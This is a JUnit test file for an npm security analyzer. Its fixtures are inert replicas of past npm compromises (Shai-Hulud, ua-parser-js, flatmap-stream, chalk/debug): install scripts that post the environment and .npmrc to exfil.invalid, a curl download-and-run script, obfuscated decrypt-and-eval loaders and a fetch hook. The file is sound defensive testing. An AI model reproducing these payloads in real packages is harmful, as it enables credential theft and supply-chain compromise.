package dev.gatehouse.analyzer.npm;

import static dev.gatehouse.analyzer.npm.NpmFixture.code;
import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Finding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Inert replicas of real npm compromises: the shapes, with {@code .invalid} hosts and nothing run. */
class IncidentReplicaTest {
  @TempDir Path tmp;

  /** Shai-Hulud (2025): postinstall runs a bundle that takes the environment and .npmrc and posts them. */
  @Test
  void shaiHuludPostinstallThatPostsTheEnvironmentAndNpmrcIsCritical() throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"postinstall\": \"node bundle.js\"")
        .file("bundle.js", """
            const https = require('https');
            const fs = require('fs'), os = require('os'), path = require('path');
            const secrets = { env: JSON.stringify(process.env) };
            try { secrets.npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}
            const req = https.request({ hostname: 'exfil.invalid', method: 'POST', path: '/x' });
            req.end(JSON.stringify(secrets));
            """)
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).contains(Capability.ENVIRONMENT_READ, Capability.CREDENTIAL_READ, Capability.NETWORK);
    assertThat(f.summary()).startsWith("postinstall runs `node bundle.js`, which ")
        .contains("reads credential files (bundle.js line 4)", "reads the whole environment (bundle.js line 3)",
            "uses the network (bundle.js line 5)");
    assertThat(f.evidence().path()).isEqualTo("package/package.json");
    assertThat(f.evidence().location()).isEqualTo("scripts.postinstall");
  }

  /** ua-parser-js (2021): preinstall downloads a binary and runs it. */
  @Test
  void uaParserPreinstallThatDownloadsAndRunsABinaryIsHigh() throws Exception {
    List<Finding> findings = NpmFixture.scripts("\"preinstall\": \"sh preinstall.sh\"")
        .file("preinstall.sh", """
            #!/bin/sh
            curl -s http://download.invalid/jsextension -o jsextension
            chmod +x jsextension
            ./jsextension -k --tls > /dev/null 2>&1 &
            """)
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.NPM_LIFECYCLE_SCRIPT).get(0);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
    assertThat(f.summary()).contains("downloads a program and runs it");
  }

  /** event-stream / flatmap-stream (2018): a decrypted payload fed to compiled code when required. */
  @Test
  void flatmapStreamDecryptedPayloadRunAtRequireTimeIsCritical() throws Exception {
    List<Finding> findings = NpmFixture.main("index.js")
        .file("index.js", "module.exports = require('./lib/flatmap.js');\n")
        .file("lib/flatmap.js", """
            module.exports = function flatMap(fn) { return fn; };
            !function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}
            var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;
            var u=r("crypto").createDecipher("aes256",o),a=u.update(n[0],"hex","utf8");a+=u.final("utf8");
            new Function(a)()}catch(r){}}();
            """)
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPORT_TIME).get(0);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).contains(Capability.ENCODED_PAYLOAD, Capability.DYNAMIC_CODE, Capability.OBFUSCATION);
    assertThat(f.evidence().path()).isEqualTo("package/lib/flatmap.js");
    assertThat(f.summary()).startsWith("importing index.js runs code at load that decodes a hidden payload and runs it");
  }

  @Test
  void base64PayloadHandedToFunctionAtLoadIsCritical() throws Exception {
    List<Finding> findings = NpmFixture.main("index.js")
        .file("index.js", "const p = 'Y29uc29sZS5sb2coMSk=';\nnew Function(Buffer.from(p, 'base64').toString())();\n")
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPORT_TIME).get(0);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).containsExactly(Capability.DYNAMIC_CODE, Capability.ENCODED_PAYLOAD);
  }

  /** chalk / debug (Sept 2025): obfuscated code at import time that replaces fetch and XMLHttpRequest. */
  @Test
  void chalkDebugObfuscatedNetworkHookAtImportIsCritical() throws Exception {
    List<Finding> findings = NpmFixture.main("index.js")
        .file("index.js", """
            const _0x4a1f=['open','send','fetch'];function _0x2b3c(_0x1d2e,_0x3f4a){return _0x4a1f[_0x1d2e-0x0];}
            (function(_0x5b6c){const _0x7d8e=window.fetch;window.fetch=async function(..._0x9f0a){
            return _0x7d8e.apply(this,_0x9f0a);};
            XMLHttpRequest.prototype.open=function(_0x1b2c){this._u=_0x1b2c;};})();
            module.exports = function chalk(s) { return s; };
            """)
        .analyze(tmp);
    CodeFinding f = code(findings, Trigger.IMPORT_TIME).get(0);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.capabilities()).containsExactly(Capability.NETWORK, Capability.OBFUSCATION);
    assertThat(f.summary()).contains("is obfuscated (index.js line 1)", "replaces the network functions");
  }
}
